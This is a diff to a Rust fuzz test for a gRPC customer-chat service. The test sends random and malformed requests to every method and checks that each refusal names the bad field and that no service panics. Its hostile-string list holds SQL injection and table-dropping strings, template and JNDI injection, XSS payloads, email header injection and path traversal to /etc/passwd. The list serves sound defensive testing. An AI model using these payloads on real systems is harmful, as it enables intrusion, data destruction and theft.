@@ -1,14 +1,20 @@
 //! Bad input on every method, driven by the descriptors: the right code, a reason, the field's name; never our fault.
 
-use std::{collections::HashMap, time::Duration};
+use std::{
+    collections::{BTreeMap, HashMap},
+    sync::{Mutex, Once},
+    time::{Duration, Instant},
+};
 
-use frontdesk_auth::{AccessMap, Kind};
 use frontdesk_proto::auth::v1::Principal;
 use frontdesk_tests::{As, TestSuite, request_id};
-use prost_reflect::{
-    DescriptorPool, DynamicMessage, FieldDescriptor, Kind as FieldKind, MessageDescriptor, Value, prost::Message,
+use futures::{StreamExt, stream};
+use prost_reflect::{DynamicMessage, FieldDescriptor, Kind as FieldKind, MessageDescriptor, Value, prost::Message};
+use rand::{
+    Rng, SeedableRng,
+    rngs::StdRng,
+    seq::{IndexedRandom, SliceRandom},
 };
-use rand::{Rng, SeedableRng, rngs::StdRng, seq::IndexedRandom};
 use tonic::{
     Code, Request, Status,
     client::Grpc,
@@ -16,9 +22,11 @@ use tonic::{
 };
 use tonic_types::StatusExt;
 
+use crate::world::{Declared, World, methods, strings, with, written};
+
 /// Bytes in, bytes out: a client that knows no message.
 #[derive(Default)]
-struct Raw;
+pub(crate) struct Raw;
 
 impl Codec for Raw {
     type Encode = Vec<u8>;
@@ -60,7 +68,8 @@ pub(crate) async fn call_raw(caller: &As, path: &str, message: Vec<u8>) -> Resul
     call_with(caller, path, Request::new(message)).await
 }
 
-async fn call_with(caller: &As, path: &str, request: Request<Vec<u8>>) -> Result<Vec<u8>, Status> {
+/// The same, with metadata of its own.
+pub(crate) async fn call_with(caller: &As, path: &str, request: Request<Vec<u8>>) -> Result<Vec<u8>, Status> {
     let mut grpc = Grpc::new(caller.clone());
     grpc.ready().await.map_err(|error| Status::unavailable(error.to_string()))?;
     let mut answers = grpc.server_streaming(request, path.parse().unwrap(), Raw).await?.into_inner();
@@ -153,97 +162,250 @@ impl Fuzz {
     }
 }
 
+/// Strings that were somebody's undoing: each is put where a good request has a good one.
+fn hostile() -> Vec<String> {
+    let mut strings: Vec<String> = [
+        "' OR '1'='1",
+        "'; DROP TABLE conversations; --",
+        "\\'; DELETE FROM contacts WHERE ''='",
+        "1); SELECT pg_sleep(10); --",
+        "%' AND 1=CAST((SELECT version()) AS int) --",
+        "$1",
+        "{identity}",
+        "{{7*7}}",
+        "${jndi:ldap://x.example/a}",
+        "<%= 7*7 %>",
+        "{% include '/etc/passwd' %}",
+        "<img src=x onerror=alert(1)>",
+        "javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "\"><svg onload=alert(1)>",
+        "a\r\nBcc: x@y.example",
+        "a\nSubject: other\n\nbody",
+        "x@y.example>\r\nRCPT TO:<z@y.example",
+        "\r\n.\r\nMAIL FROM:<x@y.example>\r\n",
+        "grpc-status: 0",
+        "../../../../etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "file:///etc/passwd",
+        "/dev/zero",
+        "CON",
+        "\0",
+        "a\0b",
+        "%00",
+        "\u{202e}drawkcab",
+        "\u{2066}hidden\u{2069}",
+        "\u{200b}",
+        "\u{feff}",
+        "\u{fffd}\u{ffff}",
+        "\u{0}\u{1}\u{1f}\u{7f}\u{85}\u{9f}",
+        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
+        "a\u{301}\u{301}\u{301}\u{301}",
+        "\u{dfff0}",
+        "2026-02-30T25:61:61Z",
+        "0000-00-00",
+        "+99999-12-31T23:59:59Z",
+        "P1Y2M10DT2H30M",
+        "-1s",
+        "1e999",
+        "NaN",
+        "-9223372036854775809",
+        "00000000-0000-0000-0000-000000000000",
+        "{01890a5d-ac96-774b-bcce-b302099a8057}",
+        "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057",
+        "01890a5dac96774bbcceb302099a8057",
+        "frontdesk.>",
+        "a.*.b",
+        "*",
+    ]
+    .map(String::from)
+    .into();
+    strings.extend([1_025, 10_001, 70_000].map(|length| "y".repeat(length)));
+    strings.push("\u{1f4a5}".repeat(10_001));
+    strings.push("e\u{301}".repeat(5_000));
+    strings.push("[".repeat(5_000));
+    strings
+}
+
+/// Lengths of time that nothing can last.
+const TIMES: [(i64, i32); 8] =
+    [(i64::MAX, 0), (i64::MIN, 0), (315_576_000_001, 0), (-1, 0), (1, -1), (-1, 1), (0, 1_000_000_000), (60, i32::MIN)];
+
+/// Panics in our services, also of what no call waits for.
+static PANICS: Mutex<Vec<String>> = Mutex::new(Vec::new());
+
+fn watch_panics() {
+    static ONCE: Once = Once::new();
+    ONCE.call_once(|| {
+        let told = std::panic::take_hook();
+        std::panic::set_hook(Box::new(move |panic| {
+            let place = panic.location().map(ToString::to_string).unwrap_or_default();
+            if place.contains("services/") {
+                PANICS.lock().unwrap().push(place);
+            }
+            told(panic);
+        }));
+    });
+}
+
+struct Try {
+    number: usize,
+    path: String,
+    what: String,
+    principal: Principal,
+    input: MessageDescriptor,
+    request: Vec<u8>,
+}
+
+/// What ends the things of the test, or the time that its tokens have, comes after all the rest.
+fn last(tries: &mut [Try]) {
+    tries.sort_by_key(|one| ["Delete", "Deactivate", "AdvanceTime"].iter().any(|word| one.path.contains(word)));
+}
+
+/// Requests made by chance, the same for each kind of caller in turn, and bytes that are no message at all.
+fn generated(fuzz: &mut Fuzz, methods: &[Declared], count: usize) -> Vec<Try> {
+    let rounds = count.div_ceil(methods.len());
+    let mut tries = Vec::new();
+    for Declared { method, path, principals, .. } in methods {
+        for round in 0..rounds {
+            if round % 2 == 0 {
+                fuzz.known.insert("request_id", request_id());
+            }
+            let request = match round {
+                0 => vec![0xff; 40],
+                1 => vec![0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f],
+                2 => vec![0x0a, 0x02, 0xc3, 0x28],
+                _ => fuzz.message(&method.input(), 0).encode_to_vec(),
+            };
+            let principal = principals[round % principals.len()];
+            let what = format!("generated, round {round}");
+            tries.push(Try { number: 0, path: path.clone(), what, principal, input: method.input(), request });
+        }
+    }
+    tries
+}
+
+/// Good requests with one field that is not: every field of every method has its share of hostile strings.
+fn with_hostile_fields(fuzz: &mut Fuzz, world: &World, methods: &[Declared], count: usize) -> Vec<Try> {
+    let (texts, mut rounds) = (hostile(), Vec::new());
+    for Declared { method, path, principals, .. } in methods {
+        let good = world.request(method);
+        let mut tried = |what: String, request: DynamicMessage| {
+            let principal = *principals.choose(&mut fuzz.random).unwrap();
+            let (input, request) = (method.input(), request.encode_to_vec());
+            Try { number: 0, path: path.clone(), what, principal, input, request }
+        };
+        for place in strings(&good) {
+            let mut values = texts.clone();
+            values.shuffle(&mut StdRng::seed_from_u64(rounds.len() as u64));
+            let each = values.into_iter().map(|text| {
+                let what = format!("{} = {:.60?}", written(&place), text);
+                tried(what, with(&good, &place, &Value::String(text)))
+            });
+            rounds.push(each.collect::<Vec<_>>().into_iter());
+        }
+        for field in method.input().fields() {
+            let FieldKind::Message(kind) = field.kind() else { continue };
+            if !["google.protobuf.Duration", "google.protobuf.Timestamp"].contains(&kind.full_name()) {
+                continue;
+            }
+            let each = TIMES.map(|(seconds, nanos)| {
+                let mut time = DynamicMessage::new(kind.clone());
+                time.set_field_by_name("seconds", Value::I64(seconds));
+                time.set_field_by_name("nanos", Value::I32(nanos));
+                tried(
+                    format!("{} = {seconds} s {nanos} ns", field.name()),
+                    with(&good, std::slice::from_ref(&field), &Value::Message(time)),
+                )
+            });
+            rounds.push(Vec::from(each).into_iter());
+        }
+    }
+    let mut tries = Vec::new();
+    while tries.len() < count {
+        let before = tries.len();
+        tries.extend(rounds.iter_mut().filter_map(Iterator::next));
+        assert!(tries.len() > before, "there are no {count} hostile strings");
+    }
+    tries
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn s1_bad_input_is_refused_by_name_and_is_never_our_fault() {
-    const ROUNDS: usize = 60;
+    const GENERATED: usize = 10_000;
+    const HOSTILE: usize = 2_000;
+    const AT_ONCE: usize = 16;
+    watch_panics();
     let suite = TestSuite::start_with(|settings| settings.telemetry.log = "off".into()).await;
     let account = suite.account().await;
-    let bot = account.bot().await;
-    let channel = account.channel(Some(&bot)).await;
-    let (agent_id, agent) = account.agent("Ada").await;
-    let chat = account.start_chat(account.visitor("v"), &channel).await;
-    chat.until_text("Your address?").await;
-    let session = frontdesk_tests::Account::conversation(&agent, &chat.id).await.bot_session.unwrap().bot_session_id;
-    let known = HashMap::from([
-        ("conversation_id", chat.id.clone()),
-        ("chat_id", chat.id.clone()),
-        ("channel_id", channel),
-        ("bot_id", bot.id.clone()),
-        ("agent_id", agent_id.to_string()),
-        ("bot_session_id", session),
-        ("account_id", account.id.to_string()),
-        ("request_id", request_id()),
+    account.fallback_sender().await;
+    let world = World::new(account, "fuzz").await;
+    let mut known = world.ids.clone();
+    known.extend([
         ("page_url", "https://shop.example/".to_owned()),
+        ("website_url", "https://shop.example/".to_owned()),
         ("text", "hello".to_owned()),
         ("name", "Name".to_owned()),
-        ("website_url", "https://shop.example/".to_owned()),
     ]);
     let seed: u64 = std::env::var("FRONTDESK_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(7);
     println!("seed {seed}: repeat with FRONTDESK_SEED={seed}");
     let mut fuzz = Fuzz { random: StdRng::seed_from_u64(seed), known };
+    let methods = methods();
+    let mut tries = generated(&mut fuzz, &methods, GENERATED);
+    tries.extend(with_hostile_fields(&mut fuzz, &world, &methods, HOSTILE));
+    // A stream that stays open is waited for a while; so its method's calls are among the others'.
+    tries.shuffle(&mut fuzz.random);
+    last(&mut tries);
+    tries.iter_mut().enumerate().for_each(|(number, one)| one.number = number);
+    let count = tries.len();
 
-    let pool = DescriptorPool::decode(frontdesk_proto::DESCRIPTORS).unwrap();
-    let access = AccessMap::try_new(frontdesk_proto::DESCRIPTORS).unwrap();
-    let mut codes: HashMap<Code, usize> = HashMap::new();
-    for service in pool.services() {
-        for method in service.methods() {
-            let path = format!("/{}/{}", service.full_name(), method.name());
-            // Moving the clock by days would end the tokens of this test; its own field rules are tried below.
-            let moves_the_clock = method.name() == "AdvanceTime";
-            let caller = match access.of(&path).unwrap().principals() {
-                kinds if kinds.contains(&Principal::Admin) => account.admin(),
-                kinds if kinds.contains(&Principal::Agent) => agent.clone(),
-                kinds if kinds.contains(&Principal::Visitor) => account.visitor("v"),
-                _ => account.with_claims(Kind::Service, "bot-session", |_| {}),
-            };
-            for round in 0..if moves_the_clock { 0 } else { ROUNDS } {
-                if round % 2 == 0 {
-                    fuzz.known.insert("request_id", request_id());
-                }
-                let message = fuzz.message(&method.input(), 0);
-                let mut request = Request::new(message.encode_to_vec());
-                request.metadata_mut().insert("x-frontdesk-account", account.id.to_string().parse().unwrap());
-                request.metadata_mut().insert("x-frontdesk-actor", format!("bot:{}", bot.id).parse().unwrap());
-                let code = match call_with(&caller, &path, request).await {
+    let began = Instant::now();
+    let callers: HashMap<i32, As> =
+        tries.iter().map(|one| (one.principal as i32, world.caller(one.principal))).collect();
+    let codes: BTreeMap<String, usize> = stream::iter(tries)
+        .map(|one| {
+            let (caller, request) = (&callers[&(one.principal as i32)], world.call(one.principal, &one.request));
+            async move {
+                match call_with(caller, &one.path, request).await {
                     Ok(_) => Code::Ok,
-                    Err(status) => judge(&format!("{path} round {round}"), &status),
-                };
-                *codes.entry(code).or_default() += 1;
-            }
-            // Bytes that are no message at all.
-            for bytes in [vec![0xff; 40], vec![0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f], vec![0x0a, 0x02, 0xc3, 0x28]] {
-                // The first bytes are never a message; of the others a message without that field is one.
-                match call_raw(&caller, &path, bytes.clone()).await {
-                    Ok(_) => assert_ne!(bytes[0], 0xff, "{path} took bytes that are no message"),
-                    Err(status) => drop(judge(&path, &status)),
+                    Err(status) => judge(&one, seed, &status),
                 }
             }
-        }
-    }
-    println!("{codes:?}");
-    assert!(codes[&Code::InvalidArgument] > 500 && codes.contains_key(&Code::Ok), "{codes:?}");
+        })
+        .buffer_unordered(AT_ONCE)
+        .fold(BTreeMap::new(), async |mut codes, code| {
+            *codes.entry(format!("{code:?}")).or_default() += 1;
+            codes
+        })
+        .await;
+    println!("{count} calls of {} methods in {:.1?}: {codes:?}", methods.len(), began.elapsed());
+    assert!(count >= GENERATED + HOSTILE);
+    assert!(codes["InvalidArgument"] > 2_000 && codes["Ok"] > 500, "{codes:?}");
+    assert_eq!(*PANICS.lock().unwrap(), Vec::<String>::new(), "seed {seed}");
 }
 
-fn judge(path: &str, status: &Status) -> Code {
-    let info = status.get_details_error_info();
+/// The code, if the refusal is one that helps its caller.
+fn judge(one: &Try, seed: u64, status: &Status) -> Code {
+    let Try { number, path, what, principal, .. } = one;
+    let at = format!("call {number} of seed {seed}, {path} as {principal:?}, {what}: {status:?}");
     let allowed = [
         Code::InvalidArgument,
         Code::NotFound,
         Code::FailedPrecondition,
         Code::Aborted,
-        Code::AlreadyExists,
         Code::ResourceExhausted,
         Code::PermissionDenied,
     ];
-    assert!(allowed.contains(&status.code()), "{path}: {status:?}");
-    assert!(info.is_some_and(|info| !info.reason.is_empty()), "{path}: no reason in {status:?}");
+    assert!(allowed.contains(&status.code()), "{at}");
+    assert!(status.get_details_error_info().is_some_and(|info| !info.reason.is_empty()), "no reason: {at}");
     if status.code() == Code::InvalidArgument {
         let fields = status.get_details_bad_request().map(|request| request.field_violations).unwrap_or_default();
-        assert!(
-            fields.iter().all(|field| !field.field.is_empty() && !field.description.is_empty()),
-            "{path}: {status:?}"
-        );
-        assert!(!fields.is_empty(), "{path}: no field in {status:?}");
+        assert!(!fields.is_empty(), "no field: {at}");
+        for field in fields {
+            let name = field.field.split(['.', '[']).next().unwrap_or_default();
+            let known = name == "request" || one.input.get_field_by_name(name).is_some();
+            assert!(known && !field.description.is_empty(), "{:?} is no field: {at}", field.field);
+        }
     }
     status.code()
 }
